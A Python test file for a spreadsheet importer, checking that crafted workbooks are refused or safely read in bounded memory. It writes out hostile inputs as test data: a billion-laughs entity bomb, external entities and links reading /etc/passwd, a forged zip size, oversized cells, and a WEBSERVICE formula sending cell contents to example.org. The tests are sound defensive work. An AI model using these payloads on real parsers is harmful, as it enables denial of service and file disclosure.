"""Workbooks made to do harm: each is refused, or read as if the harm were not there, in bounded memory."""

from __future__ import annotations

import tracemalloc
import zipfile
from typing import TYPE_CHECKING

import pytest

from bot.rankings.importing import plan_import
from bot.rankings.importing.reading import read_file
from bot.rankings.problems import FileTooLarge, FileUnreadable, FormulaFound, ImportRefused
from bot.rankings.tables import Tables, read_tables

from .support import cluster_book, snapshot

if TYPE_CHECKING:
    from pathlib import Path

MEMORY = 60_000_000
"""Bytes that reading a refused workbook may take at its height."""

BILLION_LAUGHS = "<!DOCTYPE sst [<!ENTITY l0 'ha'>{}]>".format(
    "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 11))
)
OUTSIDE = "<!DOCTYPE sst [<!ENTITY out SYSTEM 'file:///etc/passwd'>]>"


@pytest.fixture
def sound(shipped: Tables, tmp_path: Path) -> Path:
    return cluster_book(shipped).save(tmp_path / "sound.xlsx")


def changed(sound: Path, changes: dict[str, tuple[str, str]], **added: str | bytes) -> Path:
    """Write the workbook again with a text replaced in some parts, and with parts added."""
    path = sound.with_name("book.xlsx")
    with zipfile.ZipFile(sound) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            content = old.read(part).decode()
            before, after = changes.get(part, ("", ""))
            assert before in content
            new.writestr(part, content.replace(before, after, 1) if before else content)
        for part, content in added.items():
            new.writestr(part, content)
    return path


def refused(data: Path, path: Path, kind: type[ImportRefused]) -> str:
    before = snapshot(data)
    tables = read_tables(data)
    tracemalloc.start()
    try:
        with pytest.raises(kind) as caught:
            plan_import(path, 2022, tables, data)
        assert tracemalloc.get_traced_memory()[1] < MEMORY
    finally:
        tracemalloc.stop()
    assert snapshot(data) == before
    return caught.value.problems[0].message


SHEET = "xl/worksheets/sheet1.xml"
ROWS = "<sheetData>"


@pytest.mark.parametrize("entities", [BILLION_LAUGHS, OUTSIDE], ids=["expanding", "outside"])
def test_entities_are_not_expanded(data: Path, sound: Path, entities: str) -> None:
    name = "l10" if "l10" in entities else "out"
    cell = f'{ROWS}<row><c t="inlineStr"><is><t>&{name};</t></is></c></row>'
    path = changed(sound, {SHEET: (ROWS, cell)})
    with zipfile.ZipFile(path) as archive:
        parts = {part: archive.read(part).decode() for part in archive.namelist()}
    sheet = parts[SHEET]
    parts[SHEET] = entities.replace("sst", "worksheet") + sheet[sheet.index("<worksheet") :]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    message = refused(data, path, ImportRefused)
    assert "root:" not in message


def test_rows_without_end_in_a_small_file(data: Path, sound: Path) -> None:
    path = changed(sound, {SHEET: (ROWS, ROWS + "<row/>" * 200_000)})
    assert path.stat().st_size < 100_000
    assert refused(data, path, FileTooLarge) == "has more than 50000 rows"


def test_a_row_far_down_and_a_column_far_right(data: Path, sound: Path) -> None:
    far = f'{ROWS}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    assert refused(data, changed(sound, {SHEET: (ROWS, far)}), ImportRefused)


def test_one_cell_of_many_megabytes(data: Path, sound: Path) -> None:
    cell = f'{ROWS}<row><c t="inlineStr"><is><t>{"a" * 20_000_000}</t></is></c></row>'
    message = refused(data, changed(sound, {SHEET: (ROWS, cell)}), FileTooLarge)
    assert message == "unpacks to 20 MB, far more than a workbook of the index"


def test_an_archive_that_lies_about_its_size(data: Path, sound: Path) -> None:
    path = changed(sound, {SHEET: (ROWS, ROWS + " " * 30_000_000)})
    content = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo(SHEET).file_size
    assert size > 30_000_000
    path.write_bytes(content.replace(size.to_bytes(4, "little"), (5_000).to_bytes(4, "little")))
    assert "damaged or incomplete" in refused(data, path, FileUnreadable)


def test_a_formula_that_calls_outside(data: Path, shipped: Tables, tmp_path: Path) -> None:
    book = cluster_book(shipped)
    book.clusters[5][7] = '=WEBSERVICE("http://example.org/"&A1)'
    path = book.save(tmp_path / "book.xlsx")
    assert refused(data, path, FormulaFound) == "is a formula; save the workbook with values only"


def test_a_link_to_another_workbook_is_not_followed(shipped: Tables, sound: Path) -> None:
    relation = (
        '<Relationship Id="rIdLink" TargetMode="External" Target="file:///etc/passwd" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"/>'
    )
    part = "xl/_rels/workbook.xml.rels"
    path = changed(sound, {part: ("</Relationships>", f"{relation}</Relationships>")})
    assert read_file(path, 2022, shipped, {}).rows == read_file(sound, 2022, shipped, {}).rows
